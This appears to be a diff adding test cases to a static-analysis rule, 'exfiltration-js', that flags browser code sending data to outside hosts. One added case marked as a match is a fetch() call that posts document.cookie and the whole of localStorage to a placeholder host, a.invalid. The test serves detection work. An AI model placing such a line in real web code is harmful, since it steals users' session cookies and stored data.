@@ -18,3 +18,9 @@ function d() {
   // ok: exfiltration-js
   fetch("https://api.acme.invalid/", { headers: { Authorization: process.env.ACME_KEY } });
 }
+// ruleid: exfiltration-js
+fetch("https://a.invalid/in", { method: "POST", body: document.cookie + JSON.stringify(localStorage) });
+// ok: exfiltration-js
+fetch("/api/own", { method: "POST", body: document.cookie });
+// ok: exfiltration-js
+fetch("https://a.invalid/in", { method: "POST", body: localStorage.getItem("theme") });
